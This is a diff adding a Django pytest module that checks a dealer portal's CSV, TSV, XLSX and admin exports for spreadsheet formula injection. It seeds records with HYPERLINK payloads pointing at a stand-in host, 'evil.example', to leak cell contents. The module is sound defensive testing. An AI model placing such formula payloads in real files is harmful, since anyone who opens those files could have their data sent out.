@@ -1,0 +1,426 @@
+"""Every file the portal writes is safe to open in a spreadsheet: no cell is a live formula.
+
+A dealer controls text that ends up in files others open (its name, comments, record ids,
+the cells of a rejected row). Each exporter below is fed such text starting with each of
+= + - @ tab and carriage return, and every cell of what it writes is checked. The discovery
+test fails when code that writes a table (write_csv, write_xlsx, a csv writer, a workbook,
+an admin resource) is not walked here.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from collections.abc import Callable, Iterable
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.conf import settings
+from django.contrib import admin
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.db import models
+from django.test import RequestFactory
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from assessments.exporting import FORMULA_STARTS
+from assessments.importing import messages as msg
+from assessments.models import Complaint, ImportJob, Scheme
+from assessments.services.schemes import scheme_draft_from
+from dealers.models import Dealer, Region, User
+from incentives.models import IncentiveAction
+from surveys.models import SurveyResponse
+from surveys.services import hot_alerts_open_for, invitations_create_for_closed
+from tests.api.conftest import api_client, make_action, make_ledger_entry
+from tests.assessments.conftest import seed_scored_months
+from tests.assessments.import_helpers import ro_rows
+from tests.conftest import client_for
+from tests.factories import (
+    ComplaintFactory,
+    PartsOrderFactory,
+    RepairOrderFactory,
+    SubmissionFactory,
+    SurveyResponseFactory,
+    local,
+)
+
+pytestmark = pytest.mark.django_db
+
+ROOT = Path(settings.BASE_DIR)
+APPS = ("assessments", "config", "dealers", "incentives", "surveys")
+#: One payload per character a spreadsheet starts a formula with.
+PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open me")' for start in FORMULA_STARTS]
+PAYLOAD = PAYLOADS[0]
+
+
+# --- reading what was written ----------------------------------------------------------------------
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def live_formulas(cells: Iterable[tuple[str, Any]]) -> list[Any]:
+    """The cells a spreadsheet would run: formula cells, and text starting like a formula
+    (a plain negative number such as -1.5 is a number, not a formula)."""
+    live = []
+    for data_type, value in cells:
+        if data_type == "f":
+            live.append(value)
+        elif isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
+            live.append(value)
+    return live
+
+
+def neutralised(cells: Iterable[tuple[str, Any]]) -> list[str]:
+    """The cells that were neutralised: text starting with ' then a formula character."""
+    return [
+        v for _t, v in cells if isinstance(v, str) and v.startswith("'") and v[1:].startswith(FORMULA_STARTS)
+    ]
+
+
+def cells_of(content: bytes, fmt: str) -> list[tuple[str, Any]]:
+    """Every cell of a CSV, TSV or XLSX file, as (data type, value); data type "f" is a formula."""
+    if fmt == "xlsx":
+        book = load_workbook(io.BytesIO(content))
+        return [(cell.data_type, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
+    text = content.decode("utf-8-sig")
+    rows = csv.reader(io.StringIO(text), delimiter="\t" if fmt == "tsv" else ",")
+    return [("s", cell) for row in rows for cell in row]
+
+
+def body(response: Any) -> bytes:
+    assert response.status_code == 200, (response.status_code, response.content[:300])
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def assert_safe(content: bytes, fmt: str, where: str) -> None:
+    cells = cells_of(content, fmt)
+    assert not live_formulas(cells), f"{where}: live formula cells {live_formulas(cells)[:3]}"
+    assert neutralised(cells), f"{where}: no payload reached the file, so the check proves nothing"
+
+
+# --- the world: a dealer whose every text is a formula -------------------------------------------
+
+
+def _set(model: type[models.Model], pk: int, **texts: str) -> None:
+    """Set these text fields of a row, each cut to its column's length."""
+    fields = {name: model._meta.get_field(name) for name in texts}
+    model.objects.filter(pk=pk).update(
+        **{
+            name: text[: fields[name].max_length] if fields[name].max_length else text
+            for name, text in texts.items()
+        }
+    )
+
+
+def _poison(instance: models.Model, skip: Iterable[str] = ()) -> None:
+    """Set every free-text field (no choices) of `instance` to a payload, cut to its length."""
+    values = {}
+    for i, f in enumerate(instance._meta.concrete_fields):
+        if isinstance(f, models.CharField | models.TextField) and not f.choices and f.name not in skip:
+            text = PAYLOADS[i % len(PAYLOADS)]
+            values[f.attname] = text[: f.max_length] if f.max_length else text
+    type(instance).objects.filter(pk=instance.pk).update(**values)
+
+
+@pytest.fixture
+def world(cast, dealer, other_dealer, far_dealer) -> dict[str, Any]:
+    """Scored months, survey answers, an open hot alert and complaint, an invitation,
+    incentive actions and ledger entries; then every free text a dealer controls is a formula."""
+    seed_scored_months(cast, dealer, other_dealer, far_dealer)
+    now = timezone.now()
+    response = SurveyResponseFactory(dealer=dealer, overall=1, responded_at=now - timedelta(days=2))
+    hot_alerts_open_for([response], now=now - timedelta(days=2), notify=False)
+    ComplaintFactory(dealer=dealer, received_at=now - timedelta(days=2), closed_at=None)
+    closed = now - timedelta(hours=2)
+    ro = RepairOrderFactory(dealer=dealer, opened_at=closed - timedelta(hours=6), closed_at=closed)
+    invitations_create_for_closed(since=closed - timedelta(seconds=1))
+    make_action(dealer, origin="rule:safe-files")
+    make_ledger_entry(dealer, origin="rule:safe-files-ledger")
+
+    _set(Dealer, dealer.pk, name=PAYLOADS[0], city=PAYLOADS[1], province=PAYLOADS[2])
+    _set(Region, dealer.region_id, name=PAYLOADS[3])
+    _poison(ro, skip=["ro_number"])
+    RepairOrderFactory(dealer=dealer, ro_number=PAYLOADS[4][:40], closed_at=local("2026-10-15 10:00"))
+    for record in [*SurveyResponse.objects.filter(dealer=dealer), *Complaint.objects.filter(dealer=dealer)]:
+        _poison(record, skip=["response_id", "complaint_id"])
+    IncentiveAction.objects.update(reason=PAYLOADS[5])
+    return {**cast, "dealer": dealer}
+
+
+# --- the portal's own exports -----------------------------------------------------------------------
+
+PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
+    # name: (format, URL, user)
+    "ranking csv": (
+        "csv",
+        lambda: reverse("assessments:ranking_export", args=["csv"]) + "?period=2026-10",
+        "hq_admin",
+    ),
+    "ranking xlsx": (
+        "xlsx",
+        lambda: reverse("assessments:ranking_export", args=["xlsx"]) + "?period=2026-10",
+        "hq_admin",
+    ),
+    "drill-down csv": (
+        "csv",
+        lambda: "/assessments/dealers/GL0001/2026-10/kpi/repair_count/export.csv",
+        "hq_admin",
+    ),
+    "drill-down xlsx": (
+        "xlsx",
+        lambda: "/assessments/dealers/GL0001/2026-10/kpi/repair_count/export.xlsx",
+        "hq_admin",
+    ),
+    "incentive queue csv": ("csv", lambda: reverse("incentives:queue") + "?status=&format=csv", "hq_admin"),
+    "incentive queue xlsx": (
+        "xlsx",
+        lambda: reverse("incentives:queue") + "?status=&format=xlsx",
+        "hq_admin",
+    ),
+    "ledger csv": ("csv", lambda: reverse("incentives:ledger") + "?format=csv", "hq_admin"),
+    "ledger xlsx": ("xlsx", lambda: reverse("incentives:ledger") + "?format=xlsx", "hq_admin"),
+    "daily clearing csv": ("csv", lambda: reverse("surveys:board_export", args=["csv"]), "hq_admin"),
+    "daily clearing xlsx": ("xlsx", lambda: reverse("surveys:board_export", args=["xlsx"]), "hq_admin"),
+    "survey results csv": ("csv", lambda: reverse("surveys:results_export", args=["csv"]), "hq_admin"),
+    "survey results xlsx": ("xlsx", lambda: reverse("surveys:results_export", args=["xlsx"]), "hq_admin"),
+    "hot alerts csv": ("csv", lambda: reverse("surveys:alerts_export", args=["csv"]), "hq_admin"),
+    "hot alerts xlsx": ("xlsx", lambda: reverse("surveys:alerts_export", args=["xlsx"]), "hq_admin"),
+    "invitations csv": ("csv", lambda: reverse("surveys:invitations_export", args=["csv"]), "hq_admin"),
+    "invitations xlsx": ("xlsx", lambda: reverse("surveys:invitations_export", args=["xlsx"]), "hq_admin"),
+    "scheme preview csv": (
+        "csv",
+        lambda: (
+            reverse("schemes:preview", args=[scheme_draft_from(source=Scheme.objects.first()).pk])
+            + "?period=2026-10&format=csv"
+        ),
+        "hq_admin",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PAGE_EXPORTS))
+def test_page_exports_write_no_live_formula(world, name):
+    fmt, url, user = PAGE_EXPORTS[name]
+
+    content = body(client_for(world[user]).get(url()))
+
+    assert_safe(content, fmt, name)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_scorecard_export_command_writes_no_live_formula(world, tmp_path, fmt):
+    out = tmp_path / f"cards.{fmt}"
+
+    call_command("export_scorecards", "--period", "2026-10", "--format", fmt, "--output", str(out))
+
+    assert_safe(out.read_bytes(), fmt, f"export_scorecards {fmt}")
+
+
+# --- the import's error files ------------------------------------------------------------------------
+
+
+REJECTED_ROWS = ro_rows(
+    *({"ro_number": f"RO{i}", "vin": "BAD", "fault_code": p} for i, p in enumerate(PAYLOADS))
+)
+
+
+def _upload_rejected_rows(client: Any) -> ImportJob:
+    file = SimpleUploadedFile("orders.csv", REJECTED_ROWS.encode(), content_type="text/csv")
+    client.post(reverse("imports:upload"), {"kind": "repair_orders", "file": file})
+    return ImportJob.objects.latest("pk")
+
+
+def test_the_error_file_neutralises_the_dealers_cells_and_says_so(dealer, dealer_user, hq_manager):
+    job = _upload_rejected_rows(client_for(dealer_user))
+    assert job.rejected == len(PAYLOADS)
+
+    for client in (client_for(dealer_user), client_for(hq_manager)):
+        page = body(client.get(reverse("imports:error_file", args=[job.pk])))
+        assert_safe(page, "csv", "error file")
+        assert str(msg.ERROR_FILE_NOTE) in cells_of(page, "csv")[len(ro_rows().splitlines()[0].split(","))][1]
+    api = body(api_client(dealer_user).get(reverse("api:importjob-error-file", args=[job.pk])))
+    assert_safe(api, "csv", "error file through the API")
+
+
+def test_the_table_of_row_errors_is_neutralised(dealer, dealer_user):
+    job = _upload_rejected_rows(client_for(dealer_user))
+    # Row errors quote the dealer's header and cells; make sure they start like a formula.
+    job.errors = [{"row": i + 2, "column": p, "message": p} for i, p in enumerate(PAYLOADS)]
+    job.save()
+
+    content = body(client_for(dealer_user).get(reverse("imports:errors_csv", args=[job.pk])))
+
+    assert_safe(content, "csv", "table of row errors")
+
+
+def test_the_original_upload_stays_untouched_for_its_uploader_only(dealer, dealer_user, hq_manager, hq_admin):
+    job = _upload_rejected_rows(client_for(dealer_user))
+    url = reverse("imports:original", args=[job.pk])
+
+    original = body(client_for(dealer_user).get(url))
+
+    # The uploader gets the file back byte for byte, formulas and all, from a link on the import's page
+    assert original == REJECTED_ROWS.encode() and b"=HYPERLINK(" in original
+    detail = reverse("imports:detail", args=[job.pk])
+    assert url in client_for(dealer_user).get(detail).content.decode()
+    assert url not in client_for(hq_manager).get(detail).content.decode()
+    for other in (hq_manager, hq_admin):  # who may see the import, but did not upload it
+        assert client_for(other).get(url).status_code == 404
+    # nor by confirming the dealer's preview, which shares its file
+    client_for(hq_manager).post(reverse("imports:confirm", args=[job.pk]), {"mode": "partial"})
+    confirmed = ImportJob.objects.latest("pk")
+    assert confirmed.user == hq_manager and confirmed.upload.name == job.upload.name
+    assert client_for(hq_manager).get(reverse("imports:original", args=[confirmed.pk])).status_code == 404
+    page = client_for(hq_manager).get(reverse("imports:detail", args=[confirmed.pk])).content.decode()
+    assert reverse("imports:original", args=[confirmed.pk]) not in page
+
+
+# --- the Django admin's exports -------------------------------------------------------------------
+
+ADMIN_FORMATS = {"CSV": "csv", "TSV": "tsv", "XLSX": "xlsx"}
+
+
+@pytest.fixture
+def admin_world(cast, dealer) -> dict[str, Any]:
+    """One record of every model the admin exports, every free text of it a formula."""
+    for record in (
+        RepairOrderFactory(dealer=dealer),
+        ComplaintFactory(dealer=dealer),
+        SurveyResponseFactory(dealer=dealer),
+        PartsOrderFactory(dealer=dealer),
+        SubmissionFactory(dealer=dealer, period="2026-10"),
+        ImportJob.objects.create(
+            kind="complaints", user=cast["dealer_user"], dealer=dealer, file_name="x.csv"
+        ),
+    ):
+        _poison(record, skip=["ro_number"])
+    _set(Dealer, dealer.pk, name=PAYLOADS[0], city=PAYLOADS[1], province=PAYLOADS[2])
+    _set(Region, dealer.region_id, name=PAYLOADS[3])
+    _set(User, cast["dealer_user"].pk, username=PAYLOADS[4])
+    return {**cast, "dealer": dealer}
+
+
+def _exporting_admins() -> list[tuple[str, Any]]:
+    return sorted(
+        (model._meta.label, model_admin)
+        for model, model_admin in admin.site._registry.items()
+        if hasattr(model_admin, "get_export_resource_classes")
+    )
+
+
+@pytest.mark.parametrize("fmt_name", sorted(ADMIN_FORMATS))
+@pytest.mark.parametrize(
+    ("label", "model_admin"), _exporting_admins(), ids=[label for label, _ in _exporting_admins()]
+)
+def test_every_admin_export_writes_no_live_formula(admin_world, label, model_admin, fmt_name):
+    world = admin_world
+    request = RequestFactory().get("/admin/")
+    request.user = world["hq_admin"]
+    file_format = next(f for f in model_admin.get_export_formats() if f.__name__ == fmt_name)()
+
+    content = model_admin.get_export_data(file_format, request, model_admin.get_export_queryset(request))
+
+    assert_safe(content if isinstance(content, bytes) else content.encode(), ADMIN_FORMATS[fmt_name], label)
+
+
+def test_the_dealer_export_through_the_admin_page_is_neutralised(admin_world):
+    world = admin_world
+    client = client_for(world["hq_admin"])
+    url = reverse("admin:dealers_dealer_export")
+    form = client.get(url).context["form"]
+    formats = [name for name, _label in form.fields["format"].choices]
+    xlsx = next(
+        i for i, (_v, label) in enumerate(form.fields["format"].choices) if "xlsx" in str(label).lower()
+    )
+    fields = {name: "on" for name in form.fields if name not in ("format", "resource", "export_items")}
+
+    response = client.post(url, {"format": formats[xlsx], "resource": 0, **fields})
+
+    assert_safe(body(response), "xlsx", "admin dealer export page")
+
+
+# --- discovery: every table writer is walked ------------------------------------------------------
+
+TABLE_WRITERS = {
+    "write_csv",
+    "write_xlsx",
+    "safe_row",
+    "writer",
+    "DictWriter",
+    "Workbook",
+    "scorecards_table",
+}
+#: The functions that write tables, and the cases above that open what they write.
+WALKED = {
+    "assessments.views.ranking_export": "ranking csv/xlsx",
+    "assessments.views.kpi_drilldown_export": "drill-down csv/xlsx",
+    "assessments.views_imports.import_errors_csv": "error file test",
+    "assessments.views_schemes.scheme_preview_page": "scheme preview csv",
+    "assessments.exports.scorecards_table": "export_scorecards command",
+    "assessments.management.commands.export_scorecards.Command.handle": "export_scorecards command",
+    "assessments.importing.service.import_file": "error file test",
+    "assessments.importing.service._reject": "error file test",
+    "assessments.importing.service._read_and_run": "error file test",
+    "incentives.views._download": "incentive queue and ledger",
+    "surveys.views._export": "daily clearing, survey results, hot alerts, invitations",
+}
+#: The helper itself.
+HELPER = "assessments.exporting"
+
+
+def _table_writing_functions() -> set[str]:
+    found = set()
+    for app in APPS:
+        for path in (ROOT / app).rglob("*.py"):
+            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
+            if module == HELPER or "/migrations/" in str(path):
+                continue
+            tree = ast.parse(path.read_text(encoding="utf-8"))
+            for scope in _scopes(tree, module):
+                name, node = scope
+                calls = {
+                    (c.func.attr if isinstance(c.func, ast.Attribute) else getattr(c.func, "id", ""))
+                    for c in ast.walk(node)
+                    if isinstance(c, ast.Call)
+                }
+                if calls & TABLE_WRITERS:
+                    found.add(name)
+    return found
+
+
+def _scopes(tree: ast.AST, prefix: str) -> Iterable[tuple[str, ast.AST]]:
+    for node in ast.iter_child_nodes(tree):
+        if isinstance(node, ast.ClassDef):
+            yield from _scopes(node, f"{prefix}.{node.name}")
+        elif isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
+            yield f"{prefix}.{node.name}", node
+
+
+def test_every_function_that_writes_a_table_is_walked():
+    found = _table_writing_functions()
+
+    assert found, "found no table writer at all: is the discovery still looking in the right place?"
+    assert found <= set(WALKED), f"walk these in this module: {sorted(found - set(WALKED))}"
+
+
+def test_every_admin_resource_is_formula_safe_by_its_base():
+    from assessments.resources import FormulaSafeResource
+
+    resources = {
+        resource
+        for _label, model_admin in _exporting_admins()
+        for resource in model_admin.get_export_resource_classes(None)
+    }
+
+    assert resources and all(issubclass(r, FormulaSafeResource) for r in resources)
